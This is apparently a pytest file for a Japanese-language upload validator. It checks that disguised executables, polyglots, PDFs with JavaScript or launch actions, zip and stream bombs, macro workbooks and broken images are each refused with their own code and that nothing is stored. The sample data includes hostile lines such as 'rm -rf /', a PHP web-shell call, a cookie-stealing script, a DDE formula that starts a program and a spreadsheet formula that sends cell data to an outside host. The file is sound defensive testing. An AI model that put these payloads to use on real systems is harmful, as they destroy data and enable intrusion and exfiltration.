"""Hostile and broken uploads: each is refused with its own code, has words for the person, and leaves nothing behind."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from madoguchi.apps.files import api, limits

from . import samples
from .samples import ELF, chunk, heic, image, object_stream, pdf, photo, png, riff, stream, webp, workbook
from .world import DRAFT, send, stored

pytestmark = pytest.mark.django_db


def zipped(name: str = "a.txt") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, "text")
    return target.getvalue()


def renamed(data: bytes, before: bytes, after: bytes) -> bytes:
    assert len(before) == len(after)
    assert before in data
    return data.replace(before, after)


def flagged(data: bytes) -> bytes:
    """Set the flag of encryption in every entry of a zip."""
    parts = bytearray(data)
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            parts[at + offset] |= 1
            at = data.find(magic, at + 4)
    return bytes(parts)


def overlapping() -> bytes:
    """Return a workbook in which two entries of the directory share one body (the form of Fifield's bomb)."""
    data = bytearray(workbook({"xl/worksheets/sheet2.xml": "<worksheet/>"}))
    first, second = (bytes(data).rfind(b"xl/worksheets/sheet%d.xml" % n) - 46 for n in (1, 2))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def many_entries() -> bytes:
    return workbook({f"xl/media/{n}": "" for n in range(limits.MAX_ZIP_ENTRIES)}, packing=zipfile.ZIP_STORED)


def doubled() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in (*samples.PARTS.items(), ("XL/workbook.xml", "<workbook/>")):
            archive.writestr(name, content)
    return target.getvalue()


def relations(attributes: str) -> dict[str, str | bytes | None]:
    return {"xl/worksheets/_rels/sheet1.xml.rels": samples.RELATIONS.format(f"<Relationship {attributes}/>")}


def cut_jpeg_dimensions(width: int, height: int) -> bytes:
    data = image("JPEG")
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


JS = b"<</S/JavaScript/JS(app.alert(1))>>"
HIDDEN_JS = object_stream(JS)
OUTWARDS = 'Type="x/{}" Target="{}" TargetMode="External"'
HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str, str]] = {
    # programs, markup, archives under a harmless name
    "windows program as pdf": (b"MZ\x90\0" + bytes(99), "a.pdf", "executable"),
    "linux program as png": (ELF, "a.png", "executable"),
    "java class": (b"\xca\xfe\xba\xbe\0\0\0\x34", "a.jpg", "executable"),
    "macos program": (b"\xcf\xfa\xed\xfe" + bytes(20), "a.pdf", "executable"),
    "windows shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(60), "書類.pdf.lnk", "executable"),
    "shell script as text": (b"#!/bin/sh\nrm -rf /\n", "a.txt", "executable"),
    "postscript": (b"%!PS-Adobe-3.0\n", "a.pdf", "executable"),
    "batch file": (b"@echo off\r\ndel *.*\r\n", "a.bat", "executable"),
    "javascript file": (b"alert(document.cookie)\n", "a.js", "executable"),
    "html as pdf": (b"<!DOCTYPE html><title>x</title>", "a.pdf", "active_markup"),
    "html behind blanks and a mark": (b"\xef\xbb\xbf \n <HTML>", "a.txt", "active_markup"),
    "svg as png": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "a.png", "active_markup"),
    "xml": (b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>", "a.csv", "active_markup"),
    "html in utf-16": ("\ufeff<html>".encode("utf-16-le"), "a.txt", "active_markup"),
    "script inside a csv": ("氏名\n<script src=//e.example></script>\n".encode(), "a.csv", "active_markup"),
    "php": (b"\n<?php system($_GET['c']);", "a.txt", "active_markup"),
    "zip": (zipped(), "a.pdf", "archive"),
    "empty zip": (b"PK\x05\x06" + bytes(18), "a.xlsx", "archive"),
    "rar": (b"Rar!\x1a\x07\0" + bytes(20), "a.pdf", "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(20), "a.pdf", "archive"),
    "gzip": (b"\x1f\x8b\x08\0" + bytes(20), "a.csv", "archive"),
    "tar": (b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(250), "a.pdf", "archive"),
    "old word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", "office"),
    "word file": (workbook({"xl/workbook.xml": None, "word/document.xml": "<w/>"}), "a.xlsx", "office"),
    "rich text": (b"{\\rtf1\\ansi}", "a.txt", "office"),
    "gif": (b"GIF89a" + bytes(20), "a.png", "not_accepted"),
    "tiff": (b"II*\0" + bytes(20), "a.tif", "not_accepted"),
    "film": (b"\0\0\0\x18ftypmp42" + bytes(20), "a.jpg", "not_accepted"),
    "random bytes": (random.Random(7).randbytes(4_000), "a.pdf", "type_unknown"),
    "iso-2022-jp": ("申請者の氏名を書いてください".encode("iso-2022-jp"), "a.txt", "text_unreadable"),
    "utf-16 text": ("氏名,住所".encode("utf-16"), "a.csv", "text_unreadable"),
    # nothing, or too much
    "empty": (b"", "a.pdf", "empty"),
    "blank text": (b" \r\n\t\r\n", "a.txt", "empty"),
    "one byte too many": (lambda: b"%PDF-" + bytes(limits.MAX_FILE_BYTES), "a.pdf", "too_large"),
    "endless line": (b"a" * (limits.MAX_TEXT_LINE_SIGNS + 1), "a.csv", "damaged"),
    "formula that starts a program": (b"name,value\n=cmd|' /C calc'!A0,1\n", "a.csv", "sheet_formula"),
    "formula that calls out": (b'a,"=HYPERLINK(""https://e.example/?""&A1)"\n', "a.csv", "sheet_formula"),
    # pdf
    "pdf behind junk": (b"GIF" + pdf(), "a.pdf", "polyglot"),
    "pdf in pdf": (pdf(stream(b"", pdf())), "a.pdf", "polyglot"),
    "pdf with a zip behind": (pdf() + zipped(), "a.pdf", "polyglot"),
    "pdf with html behind": (pdf() + b"<script>alert(1)</script>", "a.pdf", "polyglot"),
    "pdf cut off": (pdf()[:-60], "a.pdf", "truncated"),
    "pdf of a header": (b"%PDF-1.7\n", "a.pdf", "truncated"),
    "pdf with javascript": (pdf(JS), "a.pdf", "pdf_active"),
    "pdf with javascript in escapes": (pdf(b"<</S/#4a#61vaScript>>"), "a.pdf", "pdf_active"),
    "pdf with javascript as #xx": (pdf(JS.replace(b"/JavaScript", b"/Java#53cript")), "a.pdf", "pdf_active"),
    "pdf with javascript in a packed stream": (pdf(HIDDEN_JS), "a.pdf", "pdf_active"),
    "the same with an escaped type": (
        pdf(object_stream(JS, b"/Type/Obj#53tm/Filter/FlateDecode")), "a.pdf", "pdf_active"),
    "the same without a type": (pdf(object_stream(JS, b"/Filter/FlateDecode")), "a.pdf", "pdf_active"),
    "the same behind a lying string": (
        pdf(object_stream(JS, b"/Type/ObjStm/X(endstream /Subtype/Image)/Filter/FlateDecode")), "a.pdf", "pdf_active"),
    "the same inside another stream": (pdf(stream(b"", b"9 0 obj " + HIDDEN_JS)), "a.pdf", "pdf_active"),
    "packed stream in another packing": (
        pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", JS.hex().encode())), "a.pdf", "pdf_unreadable"),
    "packed stream with a predictor": (
        pdf(object_stream(JS, b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>")), "a.pdf",
        "pdf_unreadable"),
    "packed stream that does not unpack": (
        pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"\x01\x02\x03")), "a.pdf", "pdf_unreadable"),
    "packed stream that is cut": (
        pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(JS * 90)[:-20])), "a.pdf",
        "pdf_unreadable"),
    "packed stream as a bomb": (
        lambda: pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(bytes(90 << 20), 9))),
        "a.pdf", "bomb"),
    "pdf that launches": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "a.pdf", "pdf_active"),
    "pdf that sends forms": (pdf(b"<</S/SubmitForm/F(http://e.example)>>"), "a.pdf", "pdf_active"),
    "pdf with xfa": (pdf(catalogue=b"/AcroForm<</XFA 4 0 R>>"), "a.pdf", "pdf_active"),
    "pdf that opens an address": (pdf(catalogue=b"/OpenAction<</S/URI/URI(http://e.example)>>"), "a.pdf", "pdf_active"),
    "the same by reference": (
        pdf(b"<</S/URI/URI(http://e.example)>>", catalogue=b"/OpenAction 4 0 R"), "a.pdf", "pdf_active"),
    "the same in a packed stream": (
        pdf(object_stream(b"<</S/URI/URI(http://e.example)>>"), catalogue=b"/OpenAction 9 0 R"), "a.pdf", "pdf_active"),
    "opening that goes on": (
        pdf(catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"), "a.pdf", "pdf_active"),
    "opening into nowhere": (pdf(catalogue=b"/OpenAction 77 0 R"), "a.pdf", "pdf_active"),
    "opening named over and over": (
        pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalogue=b"".join(b"/OpenAction %d 0 R" % n for n in range(4, 99))), "a.pdf",
        "pdf_active"),
    "pdf with a file inside": (pdf(stream(b"/Type/EmbeddedFile", ELF)), "a.pdf", "pdf_embedded"),
    "pdf with a list of files": (pdf(catalogue=b"/Names<</EmbeddedFiles 4 0 R>>"), "a.pdf", "pdf_embedded"),
    "pdf with a password": (pdf(trailer=b"/Encrypt 5 0 R"), "a.pdf", "encrypted"),
    # images
    "jpeg with a program archive behind (GIFAR)": (image("JPEG") + zipped("a.class"), "a.jpg", "polyglot"),
    "jpeg with a page behind": (image("JPEG") + b"<html>", "a.jpg", "polyglot"),
    "second picture with a zip behind": (image("JPEG") * 2 + zipped(), "a.jpg", "polyglot"),
    "jpeg cut off": (image("JPEG")[:-40], "a.jpg", "truncated"),
    "jpeg of a header": (b"\xff\xd8\xff\xe0", "a.jpg", "truncated"),
    "jpeg of nothing": (b"\xff\xd8\xff\xd9", "a.jpg", "damaged"),
    "jpeg with a lying length": (b"\xff\xd8\xff\xe0\xff\xff" + bytes(99), "a.jpg", "truncated"),
    "jpeg of a billion pixels": (cut_jpeg_dimensions(32_000, 32_000), "a.jpg", "too_many_pixels"),
    "jpeg without area": (cut_jpeg_dimensions(0, 9), "a.jpg", "damaged"),
    "png of a billion pixels": (png(100_000, 100_000), "a.png", "too_many_pixels"),
    "png as one long line": (png(50_000, 2), "a.png", "too_many_pixels"),
    "png cut off": (png()[:-20], "a.png", "truncated"),
    "png with a wrong sum": (renamed(png(), b"IDATx", b"IDATy"), "a.png", "damaged"),
    "png with a zip behind": (png() + zipped(), "a.png", "polyglot"),
    "png without a picture": (
        b"\x89PNG\r\n\x1a\n" + png()[8:33] + chunk(b"IEND", b""), "a.png", "damaged"),
    "png that moves": (png(8, 8, chunk(b"acTL", bytes(8))), "a.png", "animated"),
    "png with a strange critical part": (png(8, 8, chunk(b"EVIL", b"x")), "a.png", "damaged"),
    "webp cut off": (webp()[:-9], "a.webp", "truncated"),
    "webp with something behind": (webp() + zipped(), "a.webp", "polyglot"),
    "webp that moves": (webp(9, 9, riff(b"ANIM", bytes(6))), "a.webp", "animated"),
    "webp of too many pixels": (webp(16_000, 16_000), "a.webp", "too_many_pixels"),
    "webp with a lying chunk": (renamed(webp(), b"EXIF\x0e", b"EXIF\xff"), "a.webp", "damaged"),
    "heic cut off": (heic()[:-9], "a.heic", "truncated"),
    "heic with a zip behind": (heic() + zipped(), "a.heic", "polyglot"),
    "heic of too many pixels": (heic(60_000, 60_000), "a.heic", "too_many_pixels"),
    "heic that moves": (heic(9, 9, samples.box(b"moov", b"")), "a.heic", "animated"),
    "heic without a size": (samples.box(b"ftyp", b"heic\0\0\0\0") + samples.box(b"mdat", b"x"), "a.heic", "damaged"),
    # workbooks
    "workbook with macros": (workbook({"xl/vbaProject.bin": b"x"}), "a.xlsx", "sheet_macros"),
    "workbook with macros by type": (
        workbook({"[Content_Types].xml": samples.TYPES.replace("sheet.main", "sheet.macroEnabled.main")}), "a.xlsx",
        "sheet_macros"),
    "workbook with old macros": (workbook({"xl/macrosheets/sheet1.xml": "<x/>"}), "a.xlsx", "sheet_macros"),
    "workbook with controls": (workbook({"xl/activeX/activeX1.xml": "<x/>"}), "a.xlsx", "sheet_macros"),
    "workbook with links": (workbook({"xl/externalLinks/externalLink1.xml": "<x/>"}), "a.xlsx", "sheet_links"),
    "workbook with connections": (workbook({"xl/connections.xml": "<x/>"}), "a.xlsx", "sheet_links"),
    "workbook with a remote picture": (
        workbook(relations(OUTWARDS.format("image", "http://e.example/a.png"))), "a.xlsx", "sheet_links"),
    "workbook with a link into a file server": (
        workbook(relations(OUTWARDS.format("hyperlink", "file://///e.example/share"))), "a.xlsx", "sheet_links"),
    "the same in character references": (
        workbook(relations(OUTWARDS.format("image", "http://e.example").replace("External", "E&#120;ternal"))),
        "a.xlsx", "sheet_links"),
    "workbook with entities": (
        workbook({"_rels/.rels": '<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}), "a.xlsx", "damaged"),
    "workbook with a list in utf-16": (
        workbook({"_rels/.rels": samples.RELATIONS.format("").encode("utf-16")}), "a.xlsx", "damaged"),
    "workbook with a file inside": (workbook({"xl/embeddings/oleObject1.bin": b"x"}), "a.xlsx", "sheet_embedded"),
    "workbook with a program inside": (workbook({"xl/media/a.exe": b"MZ"}), "a.xlsx", "sheet_embedded"),
    "workbook with a path upwards": (workbook({"../../etc/cron.d/a": "x"}), "a.xlsx", "damaged"),
    "workbook with an absolute path": (workbook({"/etc/passwd": "x"}), "a.xlsx", "damaged"),
    "workbook with a windows path": (workbook({"xl\\..\\a": "x"}), "a.xlsx", "damaged"),
    "workbook with a name twice": (doubled(), "a.xlsx", "damaged"),
    "workbook with a password": (flagged(workbook()), "a.xlsx", "encrypted"),
    "workbook with a password as excel writes it": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le"), "a.xlsx",
        "encrypted"),
    "workbook as a bomb": (lambda: workbook({"xl/worksheets/sheet2.xml": bytes(40 << 20)}), "a.xlsx", "bomb"),
    "workbook of too many parts": (many_entries, "a.xlsx", "bomb"),
    "workbook with shared bodies": (overlapping, "a.xlsx", "bomb"),
    "workbook cut off": (workbook()[:-80], "a.xlsx", "truncated"),
    "workbook with a broken list": (workbook()[:49] + b"\xff" * 9 + workbook()[58:], "a.xlsx", "damaged"),
    "workbook with a piece missing": (workbook()[:200] + workbook()[240:], "a.xlsx", "bomb"),
    "workbook with something behind": (workbook() + ELF, "a.xlsx", "polyglot"),
    "two workbooks in one": (workbook() + workbook(), "a.xlsx", "polyglot"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_upload_is_refused_and_leaves_nothing(case: str) -> None:
    data, name, code = HOSTILE[case]
    before = stored()
    with pytest.raises(api.FileRefused) as refused:
        send(data() if callable(data) else data, name, claimed="image/png")
    assert refused.value.code == code
    words = api.refusal(refused.value.code, refused.value.params)
    assert words.endswith("。")
    assert "%(" not in words
    assert words != api.refusal("something else")
    assert stored() == before
    assert api.refs(DRAFT) == ()


GOOD: dict[str, tuple[bytes, str]] = {
    "pdf": (pdf(), "pdf"), "image": (photo(), "image"), "csv": ("氏名\n山田".encode("cp932"), "csv"),
    "xlsx": (workbook(), "xlsx"), "text": ("こんにちは".encode(), "text"),
}  # fmt: skip


@pytest.mark.parametrize("kind", GOOD)
def test_a_good_file_is_refused_where_the_field_wants_another_kind(kind: str) -> None:
    data, name = GOOD[kind]
    others = [other for other in api.KINDS if other != kind and {other, kind} != {"csv", "text"}]
    with pytest.raises(api.FileRefused) as refused:
        send(data, f"a.{name}", accepts=others)
    assert refused.value.code == "not_accepted"
    assert refused.value.params == {"found": kind, "accepted": others}
    words = api.refusal("not_accepted", refused.value.params)
    assert api.kinds_in_words([kind]) in words
    assert stored() == (0, 0, 0, 0, 0)


@pytest.mark.parametrize("base", [pdf(object_stream(b"<</A 1>>")), photo(), png(), webp(), heic(), workbook()])
def test_no_damage_of_bytes_is_an_accident(base: bytes) -> None:
    """Whatever is cut, flipped or doubled: the upload is taken or refused with a code, never an error of another kind."""
    chance, outcomes = random.Random(len(base)), set[Any]()
    for _ in range(150):
        at, way = chance.randrange(len(base)), chance.randrange(3)
        hurt = {
            0: base[:at],
            1: base[:at] + bytes([base[at] ^ 1 << chance.randrange(8)]) + base[at + 1 :],
            2: base[:at] + base[at : at + 9] + base[at:],
        }[way]
        try:
            send(hurt, owner=api.Owner("draft", f"d{chance.random()}"))
            outcomes.add("taken")
        except api.FileRefused as refused:
            outcomes.add(api.refusal(refused.code, refused.params))
    assert len(outcomes) > 1
    assert api.refusal("something else") not in outcomes
